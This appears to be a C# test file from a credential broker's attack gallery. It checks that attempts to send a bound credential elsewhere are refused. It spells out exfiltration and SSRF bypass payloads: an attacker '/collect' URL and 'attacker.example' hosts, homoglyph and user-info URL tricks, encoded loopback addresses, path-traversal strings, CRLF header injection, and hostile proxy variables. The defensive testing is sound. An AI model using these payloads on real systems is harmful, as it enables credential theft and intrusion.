using System.Text.Json.Nodes;

namespace Sanctum.Cli.Attack.Gallery;

/// <summary>Getting the credential sent somewhere else.</summary>
internal static class DestinationAttempts
{
    private const string NotBound = "a credential goes only to the hosts that it is bound to";
    private const string OneReading = "a URL that could be read in two ways is refused";
    private const string NotInside = "private addresses can't be bound, except as an exact origin";
    private const string PublicOnly = "only public addresses are dialled, unless the operator allowed the exact origin";

    public static IEnumerable<Attempt> All =>
    [
        new("another host", NotBound, ground => Denied(ground, AttackField.Service, $"{ground.Attacker.Origin}/collect")),
        new("the same host, another port", NotBound, ground => Denied(ground, AttackField.Bound, $"https://{AttackField.BoundHost}:8443/")),
        new("a subdomain", NotBound, ground => Denied(ground, AttackField.Bound, $"https://evil.{AttackField.BoundHost}/")),
        new("the host as a subdomain of the attacker's", NotBound, ground => Denied(ground, AttackField.Bound, $"https://{AttackField.BoundHost}.attacker.example/")),
        new("the host with something before it", NotBound, ground => Denied(ground, AttackField.Bound, $"https://not{AttackField.BoundHost}/")),
        new("a look-alike letter", OneReading, ground => Refused(ground, AttackField.Bound, "https://\u0430pi.example.com/")),
        new("a look-alike of a dot", OneReading, ground => Refused(ground, AttackField.Bound, "https://api\u3002example.com/")),
        new("the host as a user name", OneReading, ground => Refused(ground, AttackField.Bound, $"https://{AttackField.BoundHost}@127.0.0.1:{ground.Attacker.Port}/")),
        new("a backslash in the authority", OneReading, ground => Refused(ground, AttackField.Bound, $"https://{AttackField.BoundHost}\\@127.0.0.1:{ground.Attacker.Port}/")),
        new("a trailing dot", OneReading, ground => Refused(ground, AttackField.Bound, $"https://{AttackField.BoundHost}./")),
        new("plain HTTP", "HTTPS only", ground => Denied(ground, AttackField.Bound, $"http://{AttackField.BoundHost}/")),
        .. new[] { "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "[::ffff:7f00:1%25lo]", "[0:0:0:0:0:ffff:127.0.0.1]" }.Select(host =>
            new Attempt($"a private address spelled {host}", OneReading, ground => Refused(ground, AttackField.Inside, $"https://{host}:{ground.Target.Port}/hello"))),
        .. AttackField.InsideHosts.Select(host =>
            new Attempt($"a private address as {host}", NotInside, ground => Denied(ground, AttackField.Inside, $"https://{host}:{ground.Target.Port}/hello"))),
        .. AttackField.InsideNames.Select(host => new Attempt(
            $"a name that can lead to a private address, {host}", PublicOnly, ground => ground.RefusedAsync(
                () => ground.SendAsync(AttackField.Inside, $"https://{host}:{ground.Target.Port}/hello"), "EGRESS_DENIED", "UPSTREAM_FAILED"))),
        new("a redirect to the attacker", "redirects are returned, not followed", RedirectAsync),
        new("a proxy in the environment", "the process's proxy variables play no part", ProxyAsync),
        new("a method that is not allowed", "the binding's methods", ground => Denied(ground, AttackField.Narrow, $"{ground.Target.Origin}/public/x", "DELETE")),
        new("a path that is not allowed", "the binding's paths", ground => Denied(ground, AttackField.Narrow, $"{ground.Target.Origin}/private")),
        new("a path that climbs out", OneReading, ground => Refused(ground, AttackField.Narrow, $"{ground.Target.Origin}/public/../private")),
        new("a path that climbs out, escaped", OneReading, ground => Refused(ground, AttackField.Narrow, $"{ground.Target.Origin}/public/%252e%252e/private")),
        new("a path that climbs out past a semicolon", OneReading, ground => Refused(ground, AttackField.Narrow, $"{ground.Target.Origin}/public/..;/private")),
        new("a method in a header", "no header changes what was decided on", ground => Header(ground, "X-HTTP-Method-Override", "DELETE")),
        new("a header that ends its line", "control characters are refused before anything is sent", ground => Header(ground, "X-Note", $"a\r\nHost: 127.0.0.1:{ground.Attacker.Port}")),
        new("another Host", "the caller may not set Host", ground => Header(ground, "Host", "attacker.example")),
        new("framing headers", "the caller may not set framing headers", ground => Header(ground, "Transfer-Encoding", "chunked")),
        new("its own Authorization", "the caller may not set the injected header", ground => Header(ground, "authorization", "Bearer mine")),
        new("TRACE", "TRACE and CONNECT are never sent", ground => ground.RefusedAsync(() => ground.SendAsync(AttackField.Service, $"{ground.Target.Origin}/hello", "TRACE"), "INVALID_PARAMS")),
    ];

    private static Task<Verdict> Denied(AttackField ground, string path, string url, string method = "GET") =>
        ground.RefusedAsync(() => ground.SendAsync(path, url, method), "EGRESS_DENIED");

    private static Task<Verdict> Refused(AttackField ground, string path, string url) =>
        ground.RefusedAsync(() => ground.SendAsync(path, url), "INVALID_PARAMS");

    private static Task<Verdict> Header(AttackField ground, string name, string value) => ground.RefusedAsync(
        () => ground.SendAsync(AttackField.Service, $"{ground.Target.Origin}/hello", more: new JsonObject { ["headers"] = new JsonObject { [name] = value } }), "INVALID_PARAMS");

    private static async Task<Verdict> RedirectAsync(AttackField ground)
    {
        var before = ground.Attacker.Requests;
        var response = await ground.SendAsync(AttackField.Service, $"{ground.Target.Origin}/redirect", "POST").ConfigureAwait(false);
        return ground.Attacker.Requests == before
            ? Verdict.StoppedBy($"returned with status {response.GetProperty("status")}")
            : Verdict.GotThrough("the redirect was followed");
    }

    private static async Task<Verdict> ProxyAsync(AttackField ground)
    {
        var before = ground.Attacker.Requests;
        string[] names = ["http_proxy", "https_proxy", "all_proxy"];
        foreach (var name in names)
        {
            Environment.SetEnvironmentVariable(name, ground.Attacker.Origin);
        }

        try
        {
            await ground.SendAsync(AttackField.Service, $"{ground.Target.Origin}/hello").ConfigureAwait(false);
        }
        finally
        {
            foreach (var name in names)
            {
                Environment.SetEnvironmentVariable(name, null);
            }
        }

        return ground.Attacker.Requests == before ? Verdict.StoppedBy("sent directly") : Verdict.GotThrough("the request went to the proxy");
    }
}
